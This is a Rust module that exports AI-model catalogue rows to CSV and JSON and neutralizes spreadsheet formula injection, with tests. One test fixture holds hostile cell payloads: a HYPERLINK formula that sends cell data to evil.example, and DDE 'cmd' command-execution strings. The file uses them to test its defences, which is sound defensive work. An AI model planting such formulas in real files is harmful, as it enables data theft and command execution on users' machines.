//! Downloads: the table's current rows (after filters and sort) with its visible columns and
//! their provenance, as CSV or JSON, in the atlas's own schema so that the atlas can open its
//! own exports again exactly (see `data::import`).
//!
//! # Columns
//!
//! [`export_columns`] lists what a set of visible table columns writes: always `id` and
//! `name` first and `source_url` last, and `date` with `date_precision` (a model has no row
//! without them); each number with its `*_confidence` and `*_note`; the date with its
//! precision and note; organizations as ids (`organizations`) and display names
//! (`organization_names`), which the organization-derived columns (`country`, `org_type`, of
//! the lead organization) bring along. Lists are `;`-separated in CSV and arrays in JSON.
//!
//! # CSV and formula injection
//!
//! Following OWASP's "CSV Injection" guidance, a text cell that starts with `=`, `+`, `-`, `@`,
//! a tab or a carriage return (after leading spaces) is prefixed with a single quote `'` and
//! quoted, so a spreadsheet shows it as text and never evaluates it. A text cell that already
//! starts with `'` gets one too, which makes the rule reversible: the importer removes exactly
//! one leading `'` from text cells of a file in the atlas's own CSV schema, and spreadsheets
//! likewise hide the first `'`. Numbers are written by the atlas itself, never neutralized, and
//! stay numeric (a negative number keeps its `-`). JSON is data, not a spreadsheet, so its
//! strings are written unchanged. The CSV starts with a UTF-8 byte-order mark so spreadsheets
//! read accents correctly; the atlas's loader ignores it.

use std::borrow::Cow;

use crate::data::{Dataset, LoadError, Model};
use crate::query::Column;

/// The atlas-schema columns one table column writes, in order.
fn columns_for(c: Column) -> &'static [&'static str] {
    match c {
        Column::Name => &["name"],
        Column::Organizations => &["organizations", "organization_names"],
        Column::OrgType => &["organizations", "organization_names", "org_type"],
        Column::Country => &["organizations", "organization_names", "country"],
        Column::Date => &["date", "date_precision", "date_note"],
        Column::Domain => &["domain"],
        Column::Tasks => &["tasks"],
        Column::Architecture => &["architecture"],
        Column::Parameters => &["parameters", "parameters_confidence", "parameters_note"],
        Column::ActiveParameters => &["active_parameters"],
        Column::TrainingTokens => &[
            "training_tokens",
            "training_tokens_confidence",
            "training_tokens_note",
        ],
        Column::TrainingDataset => &["training_dataset"],
        Column::TrainingCompute => &[
            "training_compute_flop",
            "training_compute_flop_confidence",
            "training_compute_flop_note",
        ],
        Column::Hardware => &["hardware"],
        Column::HardwareCount => &["hardware_count"],
        Column::TrainingDays => &["training_days"],
        Column::Access => &["access"],
        Column::License => &["license"],
    }
}

/// The columns an export of `columns` writes, in order (see the module documentation).
pub fn export_columns(columns: &[Column]) -> Vec<&'static str> {
    let mut out: Vec<&'static str> = vec!["id", "name"];
    let push = |c: &'static str, out: &mut Vec<&'static str>| {
        if !out.contains(&c) {
            out.push(c);
        }
    };
    for &c in columns {
        for &k in columns_for(c) {
            push(k, &mut out);
        }
    }
    push("date", &mut out);
    push("date_precision", &mut out);
    push("source_url", &mut out);
    out
}

/// One exported value.
#[derive(Clone, Debug, PartialEq)]
enum Cell {
    Text(String),
    Number(Option<f64>),
    List(Vec<String>),
}

fn cell(ds: &Dataset, m: &Model, column: &str) -> Cell {
    let text = |s: &str| Cell::Text(s.to_owned());
    match column {
        "id" => text(&m.id),
        "name" => text(&m.name),
        "organizations" => Cell::List(m.organizations.clone()),
        "organization_names" => Cell::List(
            m.organizations
                .iter()
                .map(|id| ds.organization(id).map_or(id.as_str(), |o| o.name.as_str()))
                .map(str::to_owned)
                .collect(),
        ),
        "country" => text(ds.country(m)),
        "org_type" => text(ds.org_type(m)),
        "date" => Cell::Text(m.date.to_string()),
        "date_precision" => text(m.date_precision.as_str()),
        "date_note" => text(&m.date_note),
        "domain" => text(&m.domain),
        "tasks" => Cell::List(m.tasks.clone()),
        "architecture" => text(&m.architecture),
        "parameters" => Cell::Number(m.parameters.value),
        "parameters_confidence" => text(m.parameters.confidence.as_str()),
        "parameters_note" => text(&m.parameters.note),
        "active_parameters" => Cell::Number(m.active_parameters),
        "training_tokens" => Cell::Number(m.training_tokens.value),
        "training_tokens_confidence" => text(m.training_tokens.confidence.as_str()),
        "training_tokens_note" => text(&m.training_tokens.note),
        "training_dataset" => text(&m.training_dataset),
        "training_compute_flop" => Cell::Number(m.training_compute.value),
        "training_compute_flop_confidence" => text(m.training_compute.confidence.as_str()),
        "training_compute_flop_note" => text(&m.training_compute.note),
        "hardware" => text(&m.hardware),
        "hardware_count" => Cell::Number(m.hardware_count),
        "training_days" => Cell::Number(m.training_days),
        "access" => text(&m.access),
        "license" => text(&m.license),
        "description" => text(&m.description),
        "source_url" => text(&m.source_url),
        "epoch_name" => text(&m.epoch_name),
        _ => Cell::Text(String::new()),
    }
}

/// Writes a number so that it reads back exactly: plain digits for ordinary magnitudes
/// (`175000000000`, `0.5`), scientific notation otherwise (`3.14e23`); "" when not finite.
pub fn format_number(v: f64) -> String {
    if !v.is_finite() {
        return String::new();
    }
    let a = v.abs();
    if a == 0.0 || (1e-4..1e15).contains(&a) {
        // Rust writes the shortest digits that parse back to the same value.
        format!("{v}")
    } else {
        format!("{v:e}")
    }
}

/// Whether a spreadsheet could read `text` as a formula (OWASP: a leading `=`, `+`, `-`, `@`,
/// tab or carriage return), or it starts with the `'` that marks neutralized text.
pub fn needs_neutralizing(text: &str) -> bool {
    matches!(
        text.trim_start_matches(' ').chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'')
    )
}

/// The text a spreadsheet must show as text: `'` + `text` when [`needs_neutralizing`].
pub fn neutralize(text: &str) -> Cow<'_, str> {
    if needs_neutralizing(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A CSV field for a text value: neutralized (see [`neutralize`]) and quoted when needed
/// (a neutralized cell is always quoted, as OWASP recommends).
pub fn csv_text(text: &str) -> String {
    let neutral = needs_neutralizing(text);
    let text = neutralize(text);
    if neutral
        || text.contains([',', '"', '\n', '\r'])
        || text.starts_with(' ')
        || text.ends_with(' ')
    {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.into_owned()
    }
}

fn csv_cell(c: &Cell) -> String {
    match c {
        Cell::Text(s) => csv_text(s),
        Cell::Number(v) => v.map(format_number).unwrap_or_default(),
        Cell::List(items) => csv_text(&items.join(";")),
    }
}

/// The byte-order mark the CSV exports start with (for spreadsheets).
pub const BOM: &str = "\u{feff}";

/// The rows `rows` of `ds` (in that order) with the export columns of `columns`, as CSV.
pub fn to_csv(ds: &Dataset, rows: &[usize], columns: &[Column]) -> String {
    let cols = export_columns(columns);
    let mut out = String::from(BOM);
    out.push_str(&cols.join(","));
    out.push_str("\r\n");
    for m in rows.iter().filter_map(|&i| ds.models.get(i)) {
        let line: Vec<String> = cols.iter().map(|c| csv_cell(&cell(ds, m, c))).collect();
        out.push_str(&line.join(","));
        out.push_str("\r\n");
    }
    out
}

/// A JSON value for a cell: numbers in Rust's shortest round-trip form, `null` when unknown.
fn json_cell(c: Cell) -> String {
    match c {
        Cell::Text(s) => crate::format::json_string(&s),
        Cell::Number(Some(v)) if v.is_finite() => format!("{v:?}"),
        Cell::Number(_) => "null".to_owned(),
        Cell::List(items) => format!(
            "[{}]",
            items
                .iter()
                .map(|i| crate::format::json_string(i))
                .collect::<Vec<_>>()
                .join(",")
        ),
    }
}

/// The same rows and columns as [`to_csv`], as a JSON array of objects (one per line, keys in
/// column order; numbers as numbers or `null`, lists as arrays; strings unchanged).
pub fn to_json(ds: &Dataset, rows: &[usize], columns: &[Column]) -> String {
    let cols = export_columns(columns);
    let objects: Vec<String> = rows
        .iter()
        .filter_map(|&i| ds.models.get(i))
        .map(|m| {
            let fields: Vec<String> = cols
                .iter()
                .map(|c| {
                    format!(
                        "{}:{}",
                        crate::format::json_string(c),
                        json_cell(cell(ds, m, c))
                    )
                })
                .collect();
            format!("{{{}}}", fields.join(","))
        })
        .collect();
    if objects.is_empty() {
        "[]\n".to_owned()
    } else {
        format!("[\n{}\n]\n", objects.join(",\n"))
    }
}

/// The skipped rows of an import as CSV (`file,line,reason`), for download.
pub fn skipped_csv(skipped: &[LoadError]) -> String {
    let mut out = String::from(BOM);
    out.push_str("file,line,reason\r\n");
    for e in skipped {
        out.push_str(&format!(
            "{},{},{}\r\n",
            csv_text(&e.file),
            e.line,
            csv_text(&e.reason)
        ));
    }
    out
}

#[cfg(all(test, not(target_arch = "wasm32")))]
mod tests {
    use super::*;
    use crate::data::{
        fixture, import_text, Confidence, Date, DatePrecision, Format, Organization, Quantity,
        Schema,
    };
    use proptest::prelude::*;

    /// The exported cells of `rows`, in row order.
    fn cells(ds: &Dataset, rows: &[usize], columns: &[Column]) -> Vec<Vec<Cell>> {
        let cols = export_columns(columns);
        rows.iter()
            .filter_map(|&i| ds.models.get(i))
            .map(|m| cols.iter().map(|c| cell(ds, m, c)).collect())
            .collect()
    }

    /// A model without the fields no table column shows (description, Epoch name, line).
    fn shown(m: &Model) -> Model {
        Model {
            description: String::new(),
            epoch_name: String::new(),
            source_line: 0,
            ..m.clone()
        }
    }

    #[test]
    fn export_columns_bring_their_provenance_and_the_identity_columns() {
        assert_eq!(
            export_columns(&[Column::Parameters]),
            [
                "id",
                "name",
                "parameters",
                "parameters_confidence",
                "parameters_note",
                "date",
                "date_precision",
                "source_url"
            ]
        );
        assert_eq!(
            export_columns(&[Column::Country, Column::Date, Column::Organizations]),
            [
                "id",
                "name",
                "organizations",
                "organization_names",
                "country",
                "date",
                "date_precision",
                "date_note",
                "source_url"
            ]
        );
        let all = export_columns(&Column::ALL);
        for c in &all {
            assert!(
                crate::data::ATLAS_COLUMNS.contains(c),
                "{c} is in the atlas schema"
            );
        }
        let mut unique = all.clone();
        unique.sort_unstable();
        unique.dedup();
        assert_eq!(unique.len(), all.len(), "no column twice");
    }

    #[test]
    fn the_fixture_round_trips_through_csv_and_json() {
        let ds = fixture::dataset();
        // A filtered, re-sorted selection, as the table would give it.
        let rows: Vec<usize> = (0..ds.models.len()).rev().filter(|i| i % 2 == 0).collect();
        assert!(rows.len() >= 2);
        for (text, format) in [
            (to_csv(&ds, &rows, &Column::ALL), Format::Csv),
            (to_json(&ds, &rows, &Column::ALL), Format::Json),
        ] {
            let imp = import_text("export", &text, None).expect("imports");
            assert_eq!(imp.format, format);
            assert_eq!(imp.mapping.schema, Schema::Atlas);
            assert_eq!(imp.skipped, vec![]);
            assert_eq!(imp.problems, vec![]);
            let back: Vec<usize> = (0..imp.dataset.models.len()).collect();
            assert_eq!(
                cells(&imp.dataset, &back, &Column::ALL),
                cells(&ds, &rows, &Column::ALL)
            );
            let originals: Vec<Model> = rows.iter().map(|&i| shown(&ds.models[i])).collect();
            let imported: Vec<Model> = imp.dataset.models.iter().map(shown).collect();
            assert_eq!(imported, originals, "{format:?}: every shown field");
        }
    }

    #[test]
    fn formulas_arrive_inert_in_a_spreadsheet_and_exact_in_the_atlas() {
        let mut ds = fixture::dataset();
        let evil = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")";
        {
            let m = &mut ds.models[0];
            m.name = evil.to_owned();
            m.parameters.note = "+cmd|' /C calc'!A0".to_owned();
            m.license = "-2+3".to_owned();
            m.hardware = "@SUM(1+1)*cmd|' /C calc'!A0".to_owned();
            m.training_dataset = "\tTabbed".to_owned();
            m.architecture = "'quoted already".to_owned();
            m.date_note = "\r=1+1".to_owned();
            m.parameters.value = Some(-5.0);
        }
        let columns = Column::ALL;
        let text = to_csv(&ds, &[0], &columns);
        assert!(text.starts_with(BOM));
        // What a spreadsheet sees: the raw fields.
        let mut reader = csv::ReaderBuilder::new().from_reader(&text.as_bytes()[BOM.len()..]);
        let headers = reader.headers().expect("header").clone();
        let record = reader.records().next().expect("row").expect("csv");
        let raw = |name: &str| {
            let i = headers.iter().position(|h| h == name).expect(name);
            record.get(i).expect("field").to_owned()
        };
        assert_eq!(raw("name"), format!("'{evil}"));
        assert!(
            text.contains("\"'=HYPERLINK(\"\"https://evil.example"),
            "quoted and prefixed"
        );
        assert_eq!(raw("parameters_note"), "'+cmd|' /C calc'!A0");
        assert_eq!(raw("license"), "'-2+3");
        assert_eq!(raw("hardware"), "'@SUM(1+1)*cmd|' /C calc'!A0");
        assert_eq!(raw("training_dataset"), "'\tTabbed");
        assert_eq!(raw("architecture"), "''quoted already");
        assert_eq!(raw("date_note"), "'\r=1+1");
        assert_eq!(
            raw("parameters"),
            "-5",
            "numbers stay numeric, sign and all"
        );
        for field in record.iter() {
            assert!(
                !matches!(field.chars().next(), Some('=' | '+' | '@' | '\t' | '\r'))
                    && (!field.starts_with('-') || field.parse::<f64>().is_ok()),
                "no cell can start a formula: {field:?}"
            );
        }
        // The atlas reads its own export back exactly.
        let imp = import_text("export.csv", &text, None).expect("imports");
        let m = &imp.dataset.models[0];
        assert_eq!(shown(m), shown(&ds.models[0]));
        assert_eq!(m.name, evil);
        // Another file's leading quote is data, not neutralization.
        let other = "Model,Publication date,Notes\n'Tis a model,2020,x\n";
        let imp = import_text("other.csv", other, None).expect("imports");
        assert_eq!(imp.dataset.models[0].name, "'Tis a model");
    }

    #[test]
    fn numbers_are_written_to_read_back_exactly() {
        for v in [
            1.75e11,
            3.14e23,
            0.5,
            1e-7,
            123_456_789_012_345.0,
            1e15,
            -2.5,
            f64::MIN_POSITIVE,
            5e-324,
            f64::MAX,
        ] {
            let s = format_number(v);
            assert_eq!(s.parse::<f64>().ok(), Some(v), "{v} → {s}");
            assert_eq!(crate::data::parse_number(&s), Some(v), "{s}");
        }
        assert_eq!(format_number(1.75e11), "175000000000");
        assert_eq!(format_number(3.14e23), "3.14e23");
        assert_eq!(format_number(f64::NAN), "");
    }

    #[test]
    fn json_is_an_array_of_objects_in_column_order() {
        let ds = fixture::dataset();
        let json = to_json(&ds, &[1, 0], &[Column::Parameters, Column::Tasks]);
        let v: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
        let arr = v.as_array().expect("array");
        assert_eq!(arr.len(), 2);
        let first = arr[0].as_object().expect("object");
        assert_eq!(first["id"], ds.models[1].id.as_str());
        assert_eq!(first["parameters"].as_f64(), ds.models[1].parameters.value);
        assert!(first["tasks"].is_array());
        let keys: Vec<&str> = json
            .lines()
            .nth(1)
            .expect("first object")
            .split("\":")
            .filter_map(|k| k.rsplit('"').next())
            .collect();
        assert_eq!(
            &keys[..export_columns(&[Column::Parameters, Column::Tasks]).len()],
            export_columns(&[Column::Parameters, Column::Tasks]).as_slice()
        );
        assert_eq!(to_json(&ds, &[], &Column::DEFAULT), "[]\n");
    }

    #[test]
    fn skipped_rows_download_neutralizes_reasons() {
        let skipped = vec![
            LoadError::new("f.csv", 3, "expected 4 fields, found 5"),
            LoadError::new("f.csv", 9, "=cmd is not a date"),
        ];
        let text = skipped_csv(&skipped);
        let body = &text[BOM.len()..];
        let mut r = csv::Reader::from_reader(body.as_bytes());
        let rows: Vec<Vec<String>> = r
            .records()
            .map(|x| x.expect("csv").iter().map(str::to_owned).collect())
            .collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0], ["f.csv", "3", "expected 4 fields, found 5"]);
        assert_eq!(rows[1], ["f.csv", "9", "'=cmd is not a date"]);
    }

    // Values the loader keeps as they are: trimmed, and list items without `;`.
    fn text() -> impl Strategy<Value = String> {
        "[a-zA-Z0-9=+@'\", .;é\\-\t\r\n]{0,10}".prop_map(|s| s.trim().to_owned())
    }

    fn item() -> impl Strategy<Value = String> {
        "[a-zA-Z0-9=+@'\" .é\\-]{1,8}"
            .prop_map(|s| s.trim().to_owned())
            .prop_filter("non-empty", |s| !s.is_empty())
    }

    fn number() -> impl Strategy<Value = Option<f64>> {
        proptest::option::of(prop_oneof![
            proptest::num::f64::NORMAL,
            proptest::num::f64::SUBNORMAL,
            proptest::num::f64::ZERO,
            (0u64..1_000_000_000_000).prop_map(|n| n as f64),
        ])
    }

    fn quantity() -> impl Strategy<Value = Quantity> {
        (
            number(),
            prop_oneof![
                Just(Confidence::Reported),
                Just(Confidence::Estimated),
                Just(Confidence::Unknown)
            ],
            text(),
        )
            .prop_map(|(value, confidence, note)| Quantity {
                value,
                confidence,
                note,
            })
    }

    fn model() -> impl Strategy<Value = Model> {
        let org_ids = proptest::collection::vec(0usize..4, 0..3);
        let date = (1950i32..2030, 1u8..=12, 1u8..=28, 0usize..3);
        let texts = proptest::collection::vec(text(), 9);
        (
            item(),
            org_ids,
            date,
            proptest::collection::vec(item(), 0..3),
            (quantity(), quantity(), quantity()),
            (number(), number(), number()),
            texts,
        )
            .prop_map(|(name, orgs, (y, mo, d, p), tasks, qs, ns, t)| Model {
                id: String::new(),
                name,
                organizations: orgs.into_iter().map(|i| format!("org-{i}")).collect(),
                date: Date::new(y, mo, d).expect("valid date"),
                date_precision: [
                    DatePrecision::Day,
                    DatePrecision::Month,
                    DatePrecision::Year,
                ][p],
                date_note: t[0].clone(),
                domain: t[1].clone(),
                tasks,
                architecture: t[2].clone(),
                parameters: qs.0,
                active_parameters: ns.0,
                training_tokens: qs.1,
                training_dataset: t[3].clone(),
                training_compute: qs.2,
                hardware: t[4].clone(),
                hardware_count: ns.1,
                training_days: ns.2,
                access: t[5].clone(),
                license: t[6].clone(),
                description: t[7].clone(),
                source_url: t[8].clone(),
                epoch_name: String::new(),
                source_line: 0,
            })
    }

    fn dataset() -> impl Strategy<Value = Dataset> {
        let orgs = proptest::collection::vec((item(), text(), text()), 4);
        (
            proptest::collection::vec(model(), 1..8),
            orgs,
            "[a-z0-9=@'+-]{1,6}",
        )
            .prop_map(|(models, orgs, id_base)| {
                let models = models
                    .into_iter()
                    .enumerate()
                    .map(|(i, m)| Model {
                        id: format!("{id_base}{i}"),
                        ..m
                    })
                    .collect();
                // org-3 is left out: an id without an organization entry.
                let organizations = orgs
                    .into_iter()
                    .take(3)
                    .enumerate()
                    .map(|(i, (name, country, kind))| Organization {
                        id: format!("org-{i}"),
                        name,
                        country,
                        kind,
                        description: String::new(),
                        url: String::new(),
                        source_line: 0,
                    })
                    .collect();
                Dataset::from_models(models, organizations)
            })
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(128))]
        #[test]
        fn export_then_import_is_lossless(
            (ds, rows, columns) in dataset().prop_flat_map(|ds| {
                let n = ds.models.len();
                (
                    Just(ds),
                    proptest::sample::subsequence((0..n).collect::<Vec<_>>(), 1..=n).prop_shuffle(),
                    proptest::sample::subsequence(Column::ALL.to_vec(), 0..=Column::ALL.len()).prop_shuffle(),
                )
            }),
            chunk in 1usize..300,
        ) {
            for (text, format) in [
                (to_csv(&ds, &rows, &columns), Format::Csv),
                (to_json(&ds, &rows, &columns), Format::Json),
            ] {
                // Read it in slices, as the browser does.
                let mut importer = crate::data::Importer::new("export", None, crate::data::Limits::default())
                    .expect("new");
                for piece in text.as_bytes().chunks(chunk) {
                    importer.feed(piece).expect("feed");
                }
                let imp = importer.finish().expect("imports");
                prop_assert_eq!(imp.format, format);
                prop_assert_eq!(imp.mapping.schema, Schema::Atlas);
                prop_assert_eq!(&imp.skipped, &vec![]);
                prop_assert_eq!(&imp.problems, &vec![]);
                let back: Vec<usize> = (0..imp.dataset.models.len()).collect();
                prop_assert_eq!(cells(&imp.dataset, &back, &columns), cells(&ds, &rows, &columns));
                if columns.len() == Column::ALL.len() {
                    let originals: Vec<Model> = rows.iter().map(|&i| shown(&ds.models[i])).collect();
                    let imported: Vec<Model> = imp.dataset.models.iter().map(shown).collect();
                    prop_assert_eq!(imported, originals);
                }
            }
        }
    }
}
